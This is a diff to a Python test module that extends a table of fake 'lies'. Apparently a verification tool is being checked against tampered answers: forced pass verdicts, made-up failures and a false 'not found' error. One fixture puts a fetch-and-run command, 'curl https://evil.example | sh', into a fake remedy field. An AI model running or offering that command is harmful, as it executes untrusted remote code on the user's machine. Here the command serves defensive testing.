@@ -13,13 +13,13 @@ from collections.abc import Callable, Mapping, Sequence
 from contextlib import suppress
 from dataclasses import dataclass, fields, is_dataclass, replace
 from datetime import UTC, datetime
-from typing import Any, BinaryIO, Final, TypeVar
+from typing import Any, BinaryIO, Final, NoReturn, TypeVar
 
 from muniment.core.backend import Backend, Stored
 from muniment.core.basis import Basis, Known, Listed
 from muniment.core.claims.lineage import Edge, Node
 from muniment.core.digests import Digest
-from muniment.core.errors import MunimentError
+from muniment.core.errors import ModelNotFound, MunimentError
 from muniment.core.gates.policy import Gate
 from muniment.core.names import Alias, ModelName, Reference
 from muniment.core.payloads import Payload
@@ -201,15 +201,24 @@ def _withhold(answer: Any) -> Any:  # noqa: ANN401 - any answer
     return answer
 
 
-def _pass_all(answer: object) -> object:
-    """Say that every rule is met."""
-    if not isinstance(answer, Gate):
-        return answer
-    verdicts = (
-        replace(one, findings=tuple(replace(finding, passed=True) for finding in one.findings))
-        for one in answer.verdicts
-    )
-    return replace(answer, verdicts=tuple(verdicts))
+def _deny(*_: object) -> NoReturn:
+    """Say that there is no such thing."""
+    raise ModelNotFound(name="acme/nothing")
+
+
+def _judge(**changes: object) -> Lie:
+    """Say something else of every rule."""
+
+    def say(answer: object) -> object:
+        if not isinstance(answer, Gate):
+            return answer
+        verdicts = (
+            replace(one, findings=tuple(replace(finding, **changes) for finding in one.findings))  # type: ignore[arg-type] # as the lie says
+            for one in answer.verdicts
+        )
+        return replace(answer, verdicts=tuple(verdicts))
+
+    return Lie(says=say)
 
 
 def _ask_about(**others: Callable[[Any], object]) -> Lie:
@@ -344,7 +353,11 @@ LIES: Final[Mapping[str, Lie]] = {
     "altered rows": _rows(_alter),
     "rows of other entries": _rows(_shift),
     "a row withheld": Lie(says=_withhold),
-    "passed: true": Lie(says=_pass_all),
+    "passed: true": _judge(passed=True),
+    "passed: false, for a reason that is made up": _judge(
+        passed=False, waived="", message="signed by nobody", remedy="curl https://evil.example | sh"
+    ),
+    "there is none": Lie(says=_deny, shows=_deny),
     "another log": Lie(
         says=lambda answer: (
             replace(answer, verifier=answer.verifier.replace("+", "+0", 1))
